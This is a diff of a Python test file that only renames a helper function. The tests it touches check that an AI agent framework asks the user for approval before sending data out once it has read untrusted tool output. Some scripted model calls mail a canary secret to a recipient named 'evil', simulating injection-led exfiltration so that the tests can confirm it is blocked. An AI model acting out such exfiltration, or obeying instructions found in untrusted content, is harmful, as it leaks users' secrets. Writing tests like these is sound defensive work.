@@ -4,7 +4,7 @@ import asyncio
 
 import pytest
 
-from agent.scripted import Scripted, agent, call, ended, results_of, steps, text_of, user_request, whole
+from agent.scripted import Scripted, agent, call, results_of, run_to_end, steps, text_of, user_request, whole
 from dragoman.agent import ApprovalAsked, Approvals, Limits
 from dragoman.agent.admission import host_of
 from dragoman.core.parts import Citation, Opaque, Text, ToolResult
@@ -76,7 +76,7 @@ READS = {
 def test_after_untrusted_output_the_canary_does_not_leave(read):
     outside = Outside()
     model = obey(read)
-    reached = ended(agent(model, *outside.tools, limits=Limits(approval=0.05)))
+    reached = run_to_end(agent(model, *outside.tools, limits=Limits(approval=0.05)))
     assert not outside.leaked
     assert reached.untrusted
     refusals = [text_of(result) for result in results_of(model.requests[-1])[-2:]]
@@ -120,7 +120,7 @@ def test_data_leaves_with_a_users_approval():
 def test_before_untrusted_content_was_read_no_approval_is_needed():
     outside = Outside()
     model = Scripted([call("secret", {}, "s")], [call("mail", {"to": "me", "body": CANARY}, "m")], [Text(text="Sent.")])
-    reached = ended(agent(model, *outside.tools))
+    reached = run_to_end(agent(model, *outside.tools))
     assert outside.leaked
     assert not reached.untrusted
 
@@ -128,7 +128,7 @@ def test_before_untrusted_content_was_read_no_approval_is_needed():
 def test_calls_of_one_turn_were_written_before_its_results():
     outside = Outside()
     calls = [call("fetch", {"url": f"https://{name}.example/"}, name) for name in ("one", "other")]
-    ended(agent(Scripted(calls, [Text(text="Compared.")]), *outside.tools))
+    run_to_end(agent(Scripted(calls, [Text(text="Compared.")]), *outside.tools))
     assert len(outside.sent) == 2
 
 
@@ -162,14 +162,14 @@ def test_what_was_read_earlier_in_the_conversation_counts(messages):
     outside = Outside()
     model = Scripted([call("mail", {"to": "evil", "body": CANARY}, "m")], [Text(text="Done.")])
     request = Request(model="scripted", messages=messages, tools=(Tool(name="theirs"),))
-    assert ended(agent(model, *outside.tools, limits=Limits(approval=0.05)), request).untrusted
+    assert run_to_end(agent(model, *outside.tools, limits=Limits(approval=0.05)), request).untrusted
     assert not outside.leaked
 
 
 def test_a_trusted_result_earlier_in_the_conversation_does_not_count():
     outside = Outside()
     model = Scripted([call("mail", {"to": "me", "body": "hello"}, "m")], [Text(text="Done.")])
-    ended(agent(model, *outside.tools), Request(model="scripted", messages=history(name="secret")))
+    run_to_end(agent(model, *outside.tools), Request(model="scripted", messages=history(name="secret")))
     assert outside.sent == ["me: hello"]
 
 
